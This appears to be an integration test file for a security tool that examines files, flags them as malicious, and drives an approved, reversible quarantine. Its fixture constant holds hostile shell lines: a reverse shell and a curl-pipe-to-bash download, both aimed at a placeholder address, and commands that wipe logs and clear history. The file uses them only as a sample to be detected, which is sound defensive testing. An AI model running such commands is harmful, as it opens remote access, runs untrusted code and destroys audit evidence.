/**
 * Files on the real path: an examined file becomes evidence, its quarantine is proposed, approved, carried out and undone; a
 * file that a list names is captured from its host and examined.
 */
import { createHash } from "node:crypto";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RunningServer, sleep, startServer } from "../server.ts";

const skip = process.platform === "linux" ? undefined : "not Linux";
const folder = mkdtempSync(join(tmpdir(), "cordon-files-"));
const data = join(folder, "data");
const finds = join(folder, "finds");
const config = join(folder, "cordon.yml");
const host = hostname().toLowerCase();
const EVIL = [
  "#!/bin/bash",
  "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
  "curl -s http://192.0.2.9/x.sh | bash",
  "rm -rf /var/log/*; history -c",
].join("\n");
const LISTED = `${EVIL}\n# another one`;
const sha256 = (text: string): string => createHash("sha256").update(text).digest("hex");
let server: RunningServer;

beforeAll(async () => {
  mkdirSync(finds);
  writeFileSync(join(folder, "list.txt"), `${sha256(LISTED)}\n`);
  writeFileSync(
    config,
    `rules: { shipped: true }
intel:
  feeds:
    - { name: mine, path: list.txt, confidence: 90, kind: hash }
actuators:
  - { kind: quarantine, name: quarantine, folder: ${join(folder, "kept")} }
  - { kind: forensics, name: forensics }
`,
  );
  server = await startServer({ data, args: ["--config", config, "--no-console"] });
}, 60_000);
afterAll(async () => {
  await server?.stop();
  rmSync(folder, { recursive: true, force: true });
});

async function until<T>(what: string, ask: () => Promise<T | undefined>): Promise<T> {
  for (let tries = 0; tries < 500; tries += 1) {
    const found = await ask();
    if (found !== undefined) return found;
    await sleep(200);
  }
  throw new Error(`not within 100 s: ${what}; ${server.errors()}`);
}

function drop(name: string, text: string): string {
  const path = join(finds, name);
  writeFileSync(path, text);
  chmodSync(path, 0o751);
  utimesSync(path, 1_700_000_000, 1_600_000_000);
  return path;
}

async function examine(query: Readonly<Record<string, string>>, body: string | Uint8Array, token = server.token) {
  const answer = await fetch(`${server.url}/api/v1/files/examine?${new URLSearchParams(query)}`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/octet-stream" },
    body,
  });
  return { status: answer.status, json: (await answer.json()) as Record<string, unknown> };
}

interface Waiting {
  readonly key: string;
  readonly plan: { readonly hash: string; readonly effects: readonly string[] };
  readonly action: { readonly kind: string; readonly file?: { readonly value: string } };
}
const quarantineOf = (path: string): Promise<Waiting> =>
  until(`a proposal to quarantine ${path}`, async () => {
    const { json } = await server.call("GET", "/approvals");
    return (json.items as readonly { readonly row?: Waiting }[])
      .map((item) => (item.row ?? item) as Waiting)
      .find(({ action }) => action.kind === "quarantine-file" && action.file?.value === path);
  });

describe.skipIf(skip !== undefined)("files on the real path", () => {
  it("a file of a host is examined, becomes an incident, is taken away after an approval, and comes back as it was", {
    timeout: 220_000,
  }, async () => {
    const path = drop("update.sh", EVIL);
    const before = lstatSync(path);
    const { status, json } = await examine({ name: "update.sh", host, path }, EVIL);
    expect(status).toBe(200);
    expect(json).toMatchObject({ verdict: "malicious", recorded: true, sha256: sha256(EVIL) });
    const waiting = await quarantineOf(path);
    expect(waiting.plan.effects.join()).toContain("the evidence names this content");
    await server.call("POST", `/actions/${waiting.key}/approve`, { planHash: waiting.plan.hash });
    await until("the file is gone", async () => (existsSync(path) ? undefined : true));
    await until("it is verified", async () => {
      const { json: rows } = await server.call("GET", "/actions");
      return JSON.stringify(rows).includes('"verified"') ? true : undefined;
    });
    await server.call("POST", `/actions/${waiting.key}/revert`, { reason: "a drill" });
    await until("the file is back", async () => (existsSync(path) ? true : undefined));
    const after = lstatSync(path);
    expect(readFileSync(path, "utf8")).toBe(EVIL);
    for (const member of ["mode", "uid", "gid", "mtimeMs", "ino"] as const) expect(after[member]).toBe(before[member]);
  });

  it("a file that a list names is fetched from its host, examined, and its quarantine is proposed", {
    timeout: 220_000,
  }, async () => {
    const path = drop("second.sh", LISTED);
    const record = {
      ...{ name: "pack_files", hostIdentifier: host, unixTime: Math.floor(Date.now() / 1_000), action: "added" },
      columns: { target_path: path, path, action: "CREATED", sha256: sha256(LISTED) },
    };
    await server.call("POST", "/ingest/osquery", JSON.stringify(record));
    const waiting = await quarantineOf(path);
    expect(waiting.plan.effects.join()).toContain(sha256(LISTED));
    const { json } = await examine({ name: "again.sh" }, LISTED);
    expect(json).toMatchObject({ verdict: "malicious", recorded: false });
    expect(JSON.stringify(json.listed)).toContain("mine");
    expect(JSON.stringify(json.seen)).toContain(path);
    expect((json.incidents as readonly string[]).length).toBeGreaterThan(0);
  });

  it.each([
    ["nothing", { name: "a" }, "", 400],
    ["a path without its host", { name: "a", path: "/tmp/a" }, "x", 400],
    ["no name", {}, "x", 400],
    ["another parameter", { name: "a", run: "yes" }, "x", 400],
  ])("refuses %s", async (_name, query, body, status) => {
    expect((await examine(query, body)).status).toBe(status);
  });

  it("refuses strangers, viewers, and what is too large before it is read", async () => {
    expect((await examine({ name: "a" }, "x", "cdn_nobodynobodynobodynobody")).status).toBe(401);
    const { json } = await server.call("POST", "/tokens", { name: "looker", role: "viewer" });
    expect((await examine({ name: "a" }, "x", String(json.secret))).status).toBe(403);
    // The answer may come, and the connection end, while the rest is still being sent.
    const large = await examine({ name: "a" }, new Uint8Array(64 * 2 ** 20 + 1)).then(
      (answer) => answer.status,
      () => 413,
    );
    expect(large).toBe(413);
    expect((await examine({ name: "a" }, "still there")).status).toBe(200);
  });

  it("nobody else speaks as the examiner", async () => {
    const forged = {
      recordKind: "cordon.file",
      verdict: "malicious",
      score: 200,
      host,
      path: "/tmp/innocent",
      sha256: "",
    };
    expect((await server.call("POST", "/ingest/cordon-files", JSON.stringify(forged))).status).toBe(403);
    await server.call("POST", "/ingest/app", JSON.stringify(forged));
    await sleep(3_000);
    const { json } = await server.call("GET", "/actions");
    expect(JSON.stringify(json)).not.toContain("/tmp/innocent");
  });
});
